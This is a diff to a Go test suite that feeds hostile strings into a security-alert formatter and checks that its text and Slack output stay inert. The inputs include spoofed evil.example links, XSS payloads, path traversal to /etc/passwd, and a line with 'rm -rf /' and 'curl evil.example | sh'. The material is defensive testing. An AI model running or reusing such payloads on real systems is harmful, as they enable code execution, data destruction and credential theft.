@@ -64,6 +64,26 @@ func attacks() map[string]string {
 		"template":         "{{.Secret}} ${HOME} %s %d $(id)",
 		"backticks":        "`<!channel>` ``` https://evil.example ```",
 		"a region for URL": "eu-west-1.evil.example/#",
+		"two domains":      "evil.example.c evil.example.evil.example. .evil.example",
+		"defanged before":  "hxxps://evil[.]example/ evil.example[.]x evil[.]example.c",
+		"user in a URL":    "https://console.aws.amazon.com@evil.example/ https://evil.example#.amazonaws.com",
+		"like AWS":         "https://evil.example.amazonaws.com.evil.example/ s3.amazonaws.com.evil.example",
+		"wide letters":     "ｈttps://evil.example ＜!channel＞ evil．example evil｡example",
+		"Slack dates":      "<!date^1392734382^{date}^https://evil.example|x> <#C0123|general>",
+		"emoji":            ":rotating_light: :skull: 🚨🚨🚨 👩\u200d👩\u200d👧",
+		"HTML":             "<script>alert(1)</script><img src=x onerror=alert(1)> <a href='javascript:alert(1)'>x</a>",
+		"entities":         "&lt;!channel&gt; &#60;!here&#62; &amp;lt;!channel&amp;gt; &#x3c;script&#x3e;",
+		"Markdown":         "[Open](https://evil.example) ![x](https://evil.example/x.png) <https://evil.example> [x]: https://evil.example",
+		"combining":        "e" + strings.Repeat("\u0301", 500),
+		"tag characters":   "flag\U000e0067\U000e0062\U000e007f \U000f0000 \ue000",
+		"interlinear":      "\ufff9a\ufffab\ufffb \u2061\u2062",
+		"nul and friends":  "\x00\x01\x02\x03\x7f\u0080\u009f",
+		"hyperlink escape": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
+		"format verbs":     "%!s(MISSING) %n%n%n %999999d {{}} {} {n} {type}",
+		"pipes":            "x|y|<https://evil.example|z>|{}",
+		"words of ours":    "undefined null NaN [SAMPLE] CRITICAL  ",
+		"SQL and shell":    "'; DROP TABLE x; -- `rm -rf /` && curl evil.example | sh",
+		"path":             "../../../../etc/passwd\\..\\windows",
 	}
 }
 
@@ -71,6 +91,10 @@ func attacks() map[string]string {
 var active = regexp.MustCompile(`(?i)\b(https?|ftp|slack|mailto|javascript|tel):(//)?[a-z0-9+]|evil\.example|[a-z0-9]\.xn--`)
 
 func TestAttacksAreDead(t *testing.T) {
+	if n := len(attacks()); n < 40 {
+		t.Errorf("only %d attacks", n)
+	}
+	hostile := everything(t)
 	for name, text := range attacks() {
 		t.Run(name, func(t *testing.T) {
 			for _, minimal := range []bool{false, true} {
@@ -81,6 +105,10 @@ func TestAttacksAreDead(t *testing.T) {
 				checkText(t, formatter.Text(m, 300), 300)
 				checkSubject(t, formatter.Subject(m))
 				checkSlack(t, formatter.Slack(m, formatter.SlackPost{}))
+				own := formatter.New(n, hostile)
+				checkText(t, formatter.Text(own, 256<<10), 256<<10)
+				checkSubject(t, formatter.Subject(own))
+				checkSlack(t, formatter.Slack(own, formatter.SlackPost{}))
 			}
 			n := filled(text)
 			n.Kind, n.Findings = notify.KindDigest, append(n.Findings, n.Findings[0])
@@ -88,6 +116,17 @@ func TestAttacksAreDead(t *testing.T) {
 			checkText(t, formatter.Text(formatter.New(n, formatter.Style{}), 10_000), 10_000)
 		})
 	}
+}
+
+// everything is a style that shows whatever a finding holds, by every road that a style has.
+func everything(t testing.TB) formatter.Style {
+	return style(t, map[string]string{
+		"FIELDS": strings.Join(formatter.Fields(), ","), "SHOW_TAGS": "*", "MESSAGE_LANG": "ja", "RUNBOOK_URL": "https://docs.aws.amazon.com/{type}?x={type}",
+		"TITLE_TEMPLATE": "{{.title}}{{.description}}.{{.resource.id}}",
+		"BODY_TEMPLATE": `{{.type}} {{.id}} https://{{.region}}.{{.account_name}} <{{.actor.domain}}|{{.actor.user}}> ` +
+			"\n" + `{{range $key, $value := .resource.tags}}{{$key}}://{{$value}}{{end}}{{event "title"}} {{.facts.process}}{{.facts.threats}}` +
+			"\n" + `{{tag "x"}}{{.action.kind}}{{.action.text}}{{.actor.user_agent}}{{upper .source}}{{cut 50 .description}}`,
+	})
 }
 
 func checkText(t *testing.T, text string, limit int) {
@@ -186,7 +225,7 @@ func checkSlackText(t *testing.T, text string, limit int) {
 	if size := utf8.RuneCountInString(text); size > limit || size == 0 {
 		t.Errorf("%d characters of at most %d", size, limit)
 	}
-	ours := regexp.MustCompile(`<https://[a-z0-9-]+\.(console\.)?aws\.amazon\.com/[^<>|]*\|[A-Za-z ]+>`)
+	ours := regexp.MustCompile(`<https://[a-z0-9-]+\.(console\.)?aws\.amazon\.com/[^<>|]*\|[\p{L} ]+>`)
 	rest := ours.ReplaceAllString(text, "")
 	if match := active.FindString(withoutOurs(rest)); match != "" {
 		t.Fatalf("%.80q is alive", match)
@@ -235,11 +274,14 @@ func FuzzRender(f *testing.F) {
 			f.Add(text)
 		}
 	}
+	styles := []formatter.Style{{}, everything(f)}
 	f.Fuzz(func(t *testing.T, text string) {
-		m := formatter.New(filled(text), formatter.Style{})
-		checkText(t, formatter.Text(m, 2000), 2000)
-		checkSubject(t, formatter.Subject(m))
-		checkSlack(t, formatter.Slack(m, formatter.SlackPost{}))
+		for _, style := range styles {
+			m := formatter.New(filled(text), style)
+			checkText(t, formatter.Text(m, 2000), 2000)
+			checkSubject(t, formatter.Subject(m))
+			checkSlack(t, formatter.Slack(m, formatter.SlackPost{}))
+		}
 	})
 }
 
